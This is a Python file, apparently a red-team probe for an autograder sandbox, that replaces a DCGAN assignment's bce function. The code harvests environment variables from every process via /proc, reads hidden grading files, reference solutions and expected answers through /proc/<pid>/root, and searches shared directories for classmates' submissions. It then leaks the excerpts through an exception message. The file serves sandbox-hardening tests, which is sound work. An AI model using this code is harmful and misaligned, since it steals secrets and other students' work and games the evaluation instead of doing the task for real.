"""Attack: look for the grader's secrets and the answers: its environment (os.environ,
/proc/self/environ, /proc/<pid>/environ of every process), grading.yml (hidden items) and the
reference through /proc/self/root and /proc/<pid>/root, the expected values, the hidden checks,
and any file on the machine holding a classmate's marker; report it all in bce's failure message.
Must not achieve: the secret, grading.yml, the reference, hidden checks or a classmate's byte in
its report."""
import os

from reference.part1_dcgan import *  # noqa: F401,F403

PROJECT = os.environ.get("PYTHONPATH", "/").split(os.pathsep)[0]


def _read(path, size=4000):
    try:
        with open(path, "rb") as f:
            return f.read(size).decode("latin-1")
    except OSError:
        return ""


def _hunt():
    found = {"environ": dict(os.environ)}
    for pid in ["self", *(p for p in os.listdir("/proc") if p.isdigit())]:
        found[f"/proc/{pid}/environ"] = _read(f"/proc/{pid}/environ")
        for name in ("grading.yml", "reference/part1_dcgan.py", "autograder/checks/hidden.py",
                     "autograder/expected/architectures.json", "solutions"):
            text = _read(f"/proc/{pid}/root{PROJECT}/{name}", 400)
            if text:
                found[f"/proc/{pid}/root/{name}"] = text
    for top in ("/tmp", "/work", "/home", "/srv", "/mnt", "/opt"):
        for directory, _, files in os.walk(top):
            for name in files:
                if name.endswith((".py", ".ipynb", ".yml")) and "site-packages" not in directory:
                    text = _read(os.path.join(directory, name), 200_000)
                    if "honest-classmate-" in text or "hidden" in text and name == "grading.yml":
                        found[os.path.join(directory, name)] = text[:400]
    return found


def _excerpts(found):
    """Around each thing worth stealing, first: what fits in a failure message."""
    hits = []
    for where, text in found.items():
        text = str(text)
        for word in ("GRADER_SECRET", "honest-classmate-", "visibility: hidden", "nz=10", "def "):
            at = text.find(word)
            if at >= 0:
                hits.append(f"{where}: {text[max(0, at - 20):at + 80]!r}")
    return hits


def bce(p, target):
    raise RuntimeError(f"found: {_excerpts(_hunt()) or 'nothing'}")
